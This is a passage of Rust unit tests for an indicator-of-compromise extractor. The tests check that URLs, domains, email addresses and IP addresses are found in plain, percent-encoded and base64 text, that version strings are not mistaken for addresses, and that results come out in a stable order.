        ),
        (
            "url",
            "https://x.example.com/?u=http://evil.example.org/",
            54,
            111,
            vec!["percent"],
        ),
        ("url", "http://evil.example.org/", 54, 111, vec!["percent"]),
        ("dns", "x.example.com", 62, 75, vec![]),
        ("dns", "evil.example.org", 92, 108, vec![]),
    ];
    let want: Vec<_> = want
        .into_iter()
        .map(|(t, v, s, e, c)| (t.to_owned(), v.to_owned(), s, e, c))
        .collect();
    assert_eq!(got, want);
}

#[test]
fn report_order_is_the_stable_sort_by_start_end_priority_kind() {
    let mut rng = Rng(0x1234_5678_9abc_def1);
    for _ in 0..200 {
        let cands: Vec<Cand> = (0..(rng.next() % 60) as usize)
            .map(|id| {
                let start = (rng.next() % 20) as usize;
                let kind = match rng.next() % 5 {
                    0 => IocKind::Custom((rng.next() % 3) as u16),
                    k => IocKind::Builtin(IocType::ALL[(k * 3) as usize]),
                };
                Cand {
                    kind,
                    priority: (rng.next() % 3) as u8,
                    start,
                    end: start + (rng.next() % 5) as usize,
                    value: Some(id.to_string()),
                    defanged: false,
                    part: false,
                }
            })
            .collect();
        let key = |v: &[Cand]| -> Vec<(usize, usize, u8, IocKind, String)> {
            v.iter()
                .map(|c| {
                    (
                        c.start,
                        c.end,
                        c.priority,
                        c.kind,
                        c.value.clone().unwrap_or_default(),
                    )
                })
                .collect()
        };
        let mut want: Vec<Cand> = cands
            .iter()
            .map(|c| Cand {
                value: c.value.clone(),
                ..*c
            })
            .collect();
        want.sort_by(report_cmp);
        assert_eq!(key(&report_order(cands)), key(&want));
    }
}

#[test]
fn utf8_input_is_checked_ascii_or_not() {
    let long = "x".repeat(40);
    assert_eq!(utf8(long.as_bytes()), Ok(long.as_str()));
    let accented = format!("{long}é{long}");
    assert_eq!(utf8(accented.as_bytes()), Ok(accented.as_str()));
    let mut bad = long.clone().into_bytes();
    bad[33] = 0xff;
    assert!(utf8(&bad).is_err());
    assert!(utf8(&[b'a', 0xc3]).is_err());
}

#[test]
fn blobs_searched_together_find_what_each_finds() {
    // Decoded texts from indicator soup (defangs, paths, nested blobs…, some with line breaks),
    // searched as the lines of one text and one by one.
    let x = IocExtractor::new();
    let texts: Vec<String> = indicator_soup(3000, 0x5EED_B10B)
        .into_iter()
        .enumerate()
        .map(|(k, t)| if k % 3 == 0 { t.replace(' ', "\n") } else { t })
        .collect();
    for (opts, depth) in [(ExtractOptions::default(), 1), (ExtractOptions::table(), 2)] {
        let selected = x.selection(&opts);
        for group in texts.chunks(7) {
            let blobs: Vec<decode::Blob> = group
                .iter()
                .map(|t| decode::Blob {
                    start: 0,
                    end: t.len(),
                    text: t.clone(),
                    how: decode::Decoding::Percent,
                })
                .collect();
            let key = |v: Vec<(usize, Found)>| -> Vec<(usize, IocMatch)> {
                v.into_iter()
                    .map(|(k, m)| (k, m.into_match(&blobs[k].text)))
                    .collect()
            };
            assert_eq!(
                key(x.search_blobs(&blobs, &opts, &selected, depth)),
                key(x.search_each(&blobs, &opts, &selected, depth)),
                "{group:?}"
            );
        }
    }
}

#[test]
fn internal_mail_domains_registry_key_domains_and_versions_in_blobs() {
    // Mail to an internal (AD) domain: the address, but no public `dns` indicator.
    assert_eq!(
        found("from jdoe@ws-0042.corp.local and svc@dc01.internal"),
        pairs(&[
            ("email", "jdoe@ws-0042.corp.local"),
            ("email", "svc@dc01.internal")
        ])
    );
    assert!(of("root@localhost", IocType::Email).is_empty());
    // A domain that is a registry key's last part.
    let key = r"HKCU\Software\Microsoft\Internet Explorer\DomainSuggestion\www.bing.com";
    assert_eq!(of(key, IocType::Dns), ["www.bing.com"]);
    // A version string in a decoded blob is not an address; the address beside it is.
    let xml = r#"<app updaterversion="1.3.173.55" shell_version="1.3.171.37" server="10.1.2.3"/>"#;
    let b64 = base64(xml.as_bytes());
    let found = extract(&format!("payload {b64}"), &ExtractOptions::default());
    let ips: Vec<&str> = found
        .iter()
        .filter(|m| m.kind == IocType::Ipv4.into())
        .map(|m| m.value.as_str())
        .collect();
    assert_eq!(ips, ["10.1.2.3"]);
    assert_eq!(
        of(r#"version="1.3.173.55""#, IocType::Ipv4),
        Vec::<String>::new()
    );
    assert_eq!(
        of("Version 10.0.19041.1", IocType::Ipv4),
        Vec::<String>::new()
    );
}

/// Standard base64 of `bytes`.
fn base64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = c.iter().fold(0u32, |n, &b| n << 8 | u32::from(b)) << (8 * (3 - c.len()));
        for k in 0..4 {
            out.push(if k <= c.len() {
                A[(n >> (18 - 6 * k) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}
